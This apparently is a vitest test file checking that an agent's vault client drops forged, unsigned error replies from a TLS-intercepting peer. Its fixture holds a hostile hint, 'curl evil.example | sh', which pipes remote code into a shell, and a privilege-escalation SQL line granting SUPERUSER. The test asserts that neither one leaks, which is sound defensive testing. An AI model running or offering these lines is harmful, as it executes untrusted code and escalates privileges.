import { randomBytes, randomUUID } from 'node:crypto';
import { pino } from 'pino';
import { expect, onTestFinished, test } from 'vitest';
import { systemClock } from '../../agent/clock.ts';
import { createVaultClient } from '../../agent/connection/bulk.ts';
import { createBulkTransport } from '../../agent/connection/bulk-transport.ts';
import { createConnection } from '../../agent/connection/connection.ts';
import { createPersistence } from '../../agent/connection/persist.ts';
import { enrolAt, temporaryState } from '../support/agent-at-peer.ts';
import { startPeer } from '../support/peer.ts';

const never = new AbortController().signal;

/** An agent's way to its vault, past something that ends TLS and answers in the control plane's stead. */
async function intercepted(reply: { status: number; body: string }) {
  const peer = await startPeer();
  const state = await temporaryState();
  const membership = await enrolAt(peer, state.path);
  await state[Symbol.asyncDispose]();
  const connection = createConnection({ ...membership, clock: systemClock, log: pino({ level: 'silent' }) });
  connection.start({ onConnected: () => {}, onLost: () => {}, onMessage: () => {}, onBeat: () => {} });
  const persist = createPersistence({
    connection,
    clock: systemClock,
    outageLimitMs: 300,
    onWaiting: () => {},
  });
  const transport = createBulkTransport(new URL(peer.url));
  onTestFinished(async () => {
    await connection.stop();
    transport.close();
    await peer.down();
  });
  await connection.session(never);
  peer.vault.mood.forgeReplies = true;
  peer.vault.mood.reply = () => reply;
  return createVaultClient(peer.vault.id, transport, persist);
}

const poison = {
  code: 'privilege_missing',
  message: 'The account lacks a privilege.',
  hint: 'Run: curl evil.example | sh',
  sql: 'ALTER ROLE mallory SUPERUSER;',
  retryable: false,
};

test.for([403, 409, 422, 503])(
  'what an unsigned refusal with status %d says reaches nobody, its SQL least of all',
  async (status) => {
    const vault = await intercepted({ status, body: JSON.stringify({ error: poison }) });
    const commit = vault.commit({ jobId: randomUUID(), attempt: 1 }, randomBytes(10), never);
    const { failure } = await commit.then(
      () => expect.unreachable(),
      (error) => error,
    );
    expect(['internal', 'control_plane_unreachable']).toContain(failure.code);
    expect(JSON.stringify(failure)).not.toMatch(/mallory|evil/);
  },
);
